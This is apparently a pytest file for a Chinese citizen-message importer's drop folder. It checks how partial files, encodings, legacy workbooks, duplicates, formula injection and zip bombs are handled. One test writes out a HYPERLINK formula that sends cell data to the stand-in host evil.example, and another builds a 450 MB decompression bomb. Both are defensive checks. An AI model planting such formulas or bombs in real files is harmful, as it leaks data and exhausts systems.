"""The drop folder as an office worker and an attacker use it: nothing lost, nothing harmed."""

import csv
import io
import zipfile
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest

from gongkai_monitor import clock
from gongkai_monitor.imports.drop import import_dropped, settled_files, waiting_files
from gongkai_monitor.settings import Settings
from gongkai_monitor.store.lake import open_store
from gongkai_monitor.workspace import create_workspace

HEAD = ["留言编号", "来信时间", "标题", "内容"]
ROW = ["W1", "2026-11-01 09:00", "路灯不亮", "小区门口路灯不亮"]


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return create_workspace(tmp_path / "ws")


def csv_of(*rows: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([HEAD, *rows])
    return out.getvalue()


def workbook(path: Path, *rows: list[str]) -> None:
    book = openpyxl.Workbook()
    for row in (HEAD, *rows):
        book.active.append(row)  # type: ignore[union-attr]
    book.save(path)


def stored(settings: Settings) -> list[tuple[str, str]]:
    with closing(open_store(settings)) as conn:
        return conn.execute("SELECT message_id, text FROM messages ORDER BY 1").fetchall()


def test_a_file_that_is_still_being_written_waits(settings: Settings) -> None:
    file = settings.drop / "留言-1.csv"
    text = csv_of(ROW, ["W2", *ROW[1:]])
    file.write_text(text[: len(text) // 2], encoding="utf-8")
    settled, seen = settled_files(settings, {})
    assert settled == []
    with file.open("a", encoding="utf-8") as stream:
        stream.write(text[len(text) // 2 :])
    settled, seen = settled_files(settings, seen)
    assert settled == [], "it has grown since"
    settled, seen = settled_files(settings, seen)
    assert settled == [file]
    import_dropped(settings, file.name, now=clock.now())
    assert [number for number, _ in stored(settings)] == ["W1", "W2"]
    assert settled_files(settings, seen) == ([], {})


def test_what_a_program_marks_as_unfinished_is_left_alone(settings: Settings) -> None:
    for name in ("留言.csv.part", "~$留言.xlsx", ".留言.csv.swp", "留言.crdownload"):
        (settings.drop / name).write_text("x", encoding="utf-8")
    assert waiting_files(settings) == []


@pytest.mark.parametrize("encoding", ["gb18030", "utf-8-sig", "utf-16"])
def test_csv_of_an_office_program(settings: Settings, encoding: str) -> None:
    (settings.drop / "留言-1.csv").write_bytes(csv_of(ROW).encode(encoding))
    assert "导入 1 行" in import_dropped(settings, "留言-1.csv", now=clock.now())
    assert stored(settings) == [("W1", "小区门口路灯不亮")]


def test_an_old_workbook_and_a_foreign_file_come_back_with_the_reason(settings: Settings) -> None:
    (settings.drop / "留言-旧.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    workbook(settings.drop / "留言-新.xlsx", ROW)
    (settings.drop / "留言-新.xlsx").rename(settings.drop / "留言-新.xls")
    (settings.drop / "扫描件.pdf").write_bytes(b"%PDF-1.7")
    assert len(waiting_files(settings)) == 3, "nobody waits for a file that is never looked at"
    for path in waiting_files(settings):
        import_dropped(settings, path.name, now=clock.now())
    rejected = settings.drop / "rejected"
    assert "另存为 .xlsx" in (rejected / "留言-旧.xls.txt").read_text(encoding="utf-8")
    assert "文件名应以" in (rejected / "扫描件.pdf.txt").read_text(encoding="utf-8")
    assert (settings.drop / "done" / "留言-新.xls").is_file(), "the content decides"
    assert stored(settings) == [("W1", "小区门口路灯不亮")]


def test_the_same_file_twice_changes_nothing_and_loses_nothing(settings: Settings) -> None:
    for text in (csv_of(ROW), csv_of(ROW), csv_of(["W2", *ROW[1:]])):
        (settings.drop / "留言.csv").write_text(text, encoding="utf-8")
        import_dropped(settings, "留言.csv", now=clock.now())
    assert [number for number, _ in stored(settings)] == ["W1", "W2"]
    done = sorted(path.name for path in (settings.drop / "done").iterdir())
    assert done == ["留言-2.csv", "留言-3.csv", "留言.csv"]


def test_formulas_are_text(settings: Settings) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    workbook(settings.drop / "留言-1.xlsx", [*ROW[:3], formula])
    (settings.drop / "留言-2.csv").write_text(
        csv_of(["W2", *ROW[1:3], "@SUM(1+1)"]), encoding="utf-8"
    )
    for path in waiting_files(settings):
        import_dropped(settings, path.name, now=clock.now())
    texts = dict(stored(settings))
    assert texts.get("W2") == "@SUM(1+1)"
    assert "http" not in str(texts.get("W1"))  # a formula without a result has no text


def test_a_bomb_is_put_aside(settings: Settings) -> None:
    path = settings.drop / "留言-1.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * 450_000_000)
    import_dropped(settings, path.name, now=clock.now())
    assert (settings.drop / "rejected" / "留言-1.xlsx.txt").is_file()
    assert stored(settings) == []
